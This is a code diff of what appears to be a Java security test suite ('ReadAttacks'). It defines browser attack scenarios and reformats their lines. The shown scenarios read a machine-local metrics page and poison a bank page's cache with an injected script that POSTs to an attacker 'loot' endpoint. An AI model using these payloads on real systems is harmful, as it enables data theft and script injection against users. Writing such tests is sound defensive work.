@@ -51,15 +51,16 @@ final class ReadAttacks {
                 await loot(await within(3000, answer));
                 """)
             .worksIf(reported(METRICS)),
-        fromEvil("R11-loopback-service", "Any site reads a page that is meant for this machine only")
+        fromEvil(
+                "R11-loopback-service", "Any site reads a page that is meant for this machine only")
             .victim(Victim.LOGGED_OUT)
             .does("await loot(await (await fetch(T + '/internal/metrics')).text());")
             .worksIf(reported(METRICS)),
         fromSibling("R18-cache-poisoning", "Puts a script into the cached page of the bank")
             .does(
                 """
-                const payload = `<script>fetch('${E}/loot/${NAME}/${ID}', {method: 'POST',
-                  mode: 'no-cors', body: 'ran in ' + origin})<` + '/script>';
+                const payload = `<script>fetch('${E}/loot/${NAME}/${ID}', {method: 'POST',`
+                  + `mode: 'no-cors', body: 'ran in ' + origin})<` + '/script>';
                 await fetch(T + '/greeting', {credentials: 'include', cache: 'reload',
                   headers: {'X-Greeting': payload}});
                 await end({ran: true});
